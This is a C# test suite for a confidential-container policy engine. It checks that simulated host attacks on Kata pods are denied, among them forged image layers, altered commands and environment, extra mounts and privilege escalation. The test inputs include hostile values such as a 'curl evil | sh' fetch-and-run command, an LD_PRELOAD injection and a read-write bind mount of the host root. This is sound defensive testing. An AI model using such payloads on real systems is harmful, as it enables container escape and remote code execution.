using System.Text;
using System.Text.Json.Nodes;
using Parma.Policy.Enforcement;
using Parma.Policy.Generation;
using Parma.Policy.Simulation;
using Parma.Rego;

namespace Parma.Policy.Tests;

/// <summary>The threat-model attacks against the ConfidentialPodGroup example.</summary>
public sealed class GroupAttackTests(ExamplePolicies examples)
    : AttackTests(examples, examples.GroupPlan, examples.Group, "hello", "bonjour"), IClassFixture<ExamplePolicies>;

/// <summary>The threat-model attacks against the Deployment example.</summary>
public sealed class DeploymentAttackTests(ExamplePolicies examples)
    : AttackTests(examples, examples.DeploymentPlan, examples.Deployment, "web", "hi"), IClassFixture<ExamplePolicies>;

/// <summary>
/// The host attacks of the threat model, each against a pod whose earlier requests were legitimate.
/// Both examples set GREETING and have /app/healthy.sh as a probe.
/// </summary>
public abstract class AttackTests(ExamplePolicies examples, PodPlan plan, GeneratedPolicy policy, string appName, string greeting)
{
    private KataHostSimulator Host => new(examples.Settings, plan);

    private ContainerPlan App => plan.Containers.Single(c => c.Name == appName);

    /// <summary>A session in which the sandbox and the pause container were created and started.</summary>
    private PolicySession SandboxReady()
    {
        var session = PolicyEngine.Load(policy.PolicyText).NewSession();
        foreach (var request in Host.StartPod().Take(3))
        {
            session.Decide(request.Kind, Value.FromJson(request.Input.ToJsonString())).Allowed.Should().BeTrue(request.Description);
        }

        return session;
    }

    private static PolicyDecision Send(PolicySession session, string kind, JsonObject input) =>
        session.Decide(kind, Value.FromJson(input.ToJsonString()));

    private PolicyDecision CreateAppWith(Action<JsonObject> tamper)
    {
        var request = Host.CreateContainer(App);
        tamper(request);
        return Send(SandboxReady(), "CreateContainerRequest", request);
    }

    private static JsonArray Storages(JsonObject request) => request["storages"]!.AsArray();

    private static JsonObject Overlay(JsonObject request) => Storages(request).Single(s => s!["fstype"]!.GetValue<string>() == "fuse3.kata-overlay")!.AsObject();

    [Fact]
    public void The_untampered_request_is_allowed()
    {
        CreateAppWith(_ => { }).Allowed.Should().BeTrue();
    }

    [Fact]
    public void An_unlisted_layer_is_denied()
    {
        var forged = new string('a', 64);
        var decision = CreateAppWith(r =>
        {
            var layer = Storages(r)[0]!.AsObject();
            var options = layer["options"]!.AsArray();
            options[3] = $"io.katacontainers.fs-opt.root-hash={forged}";
        });

        decision.Allowed.Should().BeFalse();
        decision.Reason.Should().StartWith("create.layers: storages[0]").And.Contain(forged);
    }

    [Fact]
    public void Reordered_layers_are_denied()
    {
        var decision = CreateAppWith(r =>
        {
            var options = Overlay(r)["options"]!.AsArray();
            (options[1], options[2]) = (options[2]!.DeepClone(), options[1]!.DeepClone());
            var lowerdir = options[^1]!.GetValue<string>()["lowerdir=".Length..].Split(':');
            options[^1] = "lowerdir=" + string.Join(':', lowerdir.Reverse());
        });

        decision.Allowed.Should().BeFalse();
        decision.Reason.Should().StartWith("create.overlay: storages[overlay].options");
    }

    [Fact]
    public void An_injected_layer_is_denied()
    {
        var decision = CreateAppWith(r =>
        {
            var extra = Storages(r)[0]!.DeepClone().AsObject();
            extra["options"]!.AsArray()[3] = $"io.katacontainers.fs-opt.root-hash={new string('b', 64)}";
            extra["mount_point"] = "/run/kata-containers/sandbox/layers/" + new string('c', 64);
            Storages(r).Insert(0, extra);
            var options = Overlay(r)["options"]!.AsArray();
            options.Insert(1, "io.katacontainers.fs-opt.layer=" + Convert.ToBase64String(Encoding.UTF8.GetBytes($"{new string('c', 64)},tar,ro")));
        });

        decision.Allowed.Should().BeFalse();
        decision.Reason.Should().StartWith("create.layers: storages: 3 layer storages, policy expects 2");
    }

    [Fact]
    public void A_changed_command_is_denied()
    {
        var decision = CreateAppWith(r => r["OCI"]!["Process"]!["Args"] = new JsonArray("/bin/sh", "-c", "curl evil | sh"));

        decision.Allowed.Should().BeFalse();
        decision.Reason.Should().StartWith("create.args: OCI.Process.Args");
    }

    [Fact]
    public void An_added_environment_variable_is_denied_and_its_value_is_not_shown()
    {
        var decision = CreateAppWith(r => r["OCI"]!["Process"]!["Env"]!.AsArray().Add("LD_PRELOAD=/tmp/evil.so"));

        decision.Allowed.Should().BeFalse();
        decision.Reason.Should().Be("create.env: OCI.Process.Env[LD_PRELOAD]: environment variable is not allowed by the policy");
    }

    [Fact]
    public void A_changed_environment_variable_is_denied_without_showing_either_value()
    {
        var decision = CreateAppWith(r =>
        {
            var env = r["OCI"]!["Process"]!["Env"]!.AsArray();
            var index = env.Select(e => e!.GetValue<string>()).ToList().FindIndex(e => e.StartsWith("GREETING=", StringComparison.Ordinal));
            env[index] = "GREETING=pwned";
        });

        decision.Allowed.Should().BeFalse();
        decision.Reason.Should().Contain("OCI.Process.Env[GREETING]").And.NotContain("pwned").And.NotContain(greeting);
    }

    [Fact]
    public void A_removed_environment_variable_is_denied()
    {
        var decision = CreateAppWith(r =>
        {
            var env = r["OCI"]!["Process"]!["Env"]!.AsArray();
            env.Remove(env.First(e => e!.GetValue<string>().StartsWith("GREETING=", StringComparison.Ordinal)));
        });

        decision.Allowed.Should().BeFalse();
        decision.Reason.Should().Be("create.env: OCI.Process.Env[GREETING]: environment variable required by the policy is missing or changed");
    }

    [Fact]
    public void An_extra_mount_is_denied()
    {
        var decision = CreateAppWith(r => r["OCI"]!["Mounts"]!.AsArray().Add(new JsonObject
        {
            ["destination"] = "/host",
            ["options"] = new JsonArray("rbind", "rw"),
            ["source"] = "/",
            ["type_"] = "bind",
        }));

        decision.Allowed.Should().BeFalse();
        decision.Reason.Should().StartWith("create.mounts: OCI.Mounts[").And.Contain("/host");
    }

    [Fact]
    public void A_dropped_mount_is_denied_as_missing()
    {
        var decision = CreateAppWith(r => r["OCI"]!["Mounts"]!.AsArray().RemoveAt(Mounts(r).FindIndex(m => Destination(m) == "/proc")));

        decision.Allowed.Should().BeFalse();
        decision.Reason.Should().Be("create.mounts: OCI.Mounts: mount at /proc required by the policy is missing");
    }

    [Fact]
    public void A_mount_with_changed_options_is_denied_at_its_index()
    {
        var decision = CreateAppWith(r =>
        {
            var index = Mounts(r).FindIndex(m => Destination(m) == "/sys");
            r["OCI"]!["Mounts"]![index]!["options"] = new JsonArray("nosuid", "nodev", "rw");
        });

        decision.Allowed.Should().BeFalse();
        decision.Reason.Should().MatchRegex(@"^create\.mounts: OCI\.Mounts\[\d+\]: mount at /sys is not allowed by the policy$");
    }

    [Fact]
    public void A_mount_with_a_changed_source_or_type_is_denied()
    {
        foreach (var (field, value) in new[] { ("source", "/"), ("type_", "bind") })
        {
            var decision = CreateAppWith(r =>
            {
                var index = Mounts(r).FindIndex(m => Destination(m) == "/dev/mqueue");
                r["OCI"]!["Mounts"]![index]![field] = value;
            });

            decision.Allowed.Should().BeFalse(field);
            decision.Reason.Should().MatchRegex(@"^create\.mounts: OCI\.Mounts\[\d+\]: mount at /dev/mqueue is not allowed by the policy$", field);
        }
    }

    [Fact]
    public void A_duplicated_allowed_mount_is_denied_by_the_count()
    {
        var decision = CreateAppWith(r =>
        {
            var mounts = r["OCI"]!["Mounts"]!.AsArray();
            mounts.Add(mounts[0]!.DeepClone());
        });

        decision.Allowed.Should().BeFalse();
        decision.Reason.Should().MatchRegex(@"^create\.mounts: OCI\.Mounts: (\d+) mounts, policy expects \d+$");
    }

    [Fact]
    public void Reordered_mounts_are_allowed()
    {
        CreateAppWith(r =>
        {
            var mounts = r["OCI"]!["Mounts"]!.AsArray();
            var first = mounts[0]!;
            mounts.RemoveAt(0);
            mounts.Add(first);
        }).Allowed.Should().BeTrue();
    }

    private static List<JsonNode> Mounts(JsonObject request) => request["OCI"]!["Mounts"]!.AsArray().Select(m => m!).ToList();

    private static string Destination(JsonNode mount) => mount["destination"]!.GetValue<string>();

    [Fact]
    public void A_privileged_container_is_denied()
    {
        var decision = CreateAppWith(r =>
        {
            var all = new JsonArray(examples.Settings.Capabilities.All.Select(c => (JsonNode)c).ToArray());
            r["OCI"]!["Process"]!["Capabilities"]!["Bounding"] = all;
            r["OCI"]!["Linux"]!["MaskedPaths"] = new JsonArray();
        });

        decision.Allowed.Should().BeFalse();
        decision.Reason.Should().StartWith("create.capabilities: OCI.Process.Capabilities.Bounding");
    }

    [Fact]
    public void A_second_container_for_the_same_policy_container_is_denied()
    {
        var session = SandboxReady();
        var first = Host.CreateContainer(App);
        Send(session, "CreateContainerRequest", first).Allowed.Should().BeTrue();
        var second = Host.CreateContainer(App);
        second["container_id"] = new string('d', 64);
        second["exec_id"] = new string('d', 64);
        second["OCI"]!["Root"]!["Path"] = $"/run/kata-containers/shared/containers/{new string('d', 64)}/rootfs";
        second["OCI"]!["Linux"]!["CgroupsPath"] = second["OCI"]!["Linux"]!["CgroupsPath"]!.GetValue<string>().Replace(Host.ContainerId(App), new string('d', 64), StringComparison.Ordinal);
        Overlay(second)["mount_point"] = $"/run/kata-containers/shared/containers/{new string('d', 64)}/rootfs";

        var decision = Send(session, "CreateContainerRequest", second);

        decision.Allowed.Should().BeFalse();
        decision.Reason.Should().StartWith($"create.bound: container_id: policy container {appName} is already bound");
    }

    [Fact]
    public void A_container_from_another_policy_is_denied()
    {
        var otherPlan = ReferenceEquals(plan, examples.GroupPlan) ? examples.DeploymentPlan : examples.GroupPlan;
        var foreign = new KataHostSimulator(examples.Settings, otherPlan).CreateContainer(otherPlan.Containers.First(c => c.Role == ContainerRole.App));
        // Put it in this sandbox so that only the container itself differs.
        foreach (var key in new[] { "io.kubernetes.cri.sandbox-name", "io.kubernetes.cri.sandbox-namespace", "io.kubernetes.cri.sandbox-id", "io.kubernetes.cri.sandbox-uid" })
        {
            foreign["OCI"]!["Annotations"]![key] = Host.CreateContainer(App)["OCI"]!["Annotations"]![key]!.DeepClone();
        }

        var decision = Send(SandboxReady(), "CreateContainerRequest", foreign);

        decision.Allowed.Should().BeFalse();
        decision.Reason.Should().StartWith("create.");
    }

    [Fact]
    public void Exec_of_a_command_not_in_the_policy_is_denied()
    {
        var session = SandboxReady();
        Send(session, "CreateContainerRequest", Host.CreateContainer(App)).Allowed.Should().BeTrue();
        Send(session, "StartContainerRequest", new JsonObject { ["container_id"] = Host.ContainerId(App) }).Allowed.Should().BeTrue();
        Send(session, "ExecProcessRequest", Host.ExecProcess(App, ["/app/healthy.sh"])).Allowed.Should().BeTrue();

        var decision = Send(session, "ExecProcessRequest", Host.ExecProcess(App, ["/bin/sh"]));

        decision.Allowed.Should().BeFalse();
        decision.Reason.Should().Be($"exec.args: process.Args: command [\"/bin/sh\"] is not allowed in container {appName}");
        decision.DenialMessage.Should().StartWith("ExecProcessRequest is blocked by policy: exec.args");
    }

    [Fact]
    public void Exec_into_a_container_that_was_not_started_is_denied()
    {
        var session = SandboxReady();
        Send(session, "CreateContainerRequest", Host.CreateContainer(App)).Allowed.Should().BeTrue();

        var decision = Send(session, "ExecProcessRequest", Host.ExecProcess(App, ["/app/healthy.sh"]));

        decision.Allowed.Should().BeFalse();
        decision.Reason.Should().StartWith("exec.container_id: container_id: container").And.EndWith("has not been started");
    }

    [Fact]
    public void SetPolicy_is_always_denied()
    {
        var decision = Send(SandboxReady(), "SetPolicyRequest", new JsonObject { ["policy"] = "package agent_policy\ndefault CreateContainerRequest := true\n" });

        decision.Allowed.Should().BeFalse();
        decision.Reason.Should().Contain("cannot be replaced");
    }

    [Fact]
    public void A_denied_request_leaves_the_state_as_it_was()
    {
        var session = SandboxReady();
        var before = session.State;
        var request = Host.CreateContainer(App);
        request["OCI"]!["Process"]!["Args"] = new JsonArray("/bin/false");

        Send(session, "CreateContainerRequest", request).Allowed.Should().BeFalse();

        session.State.Should().Be(before);
    }
}
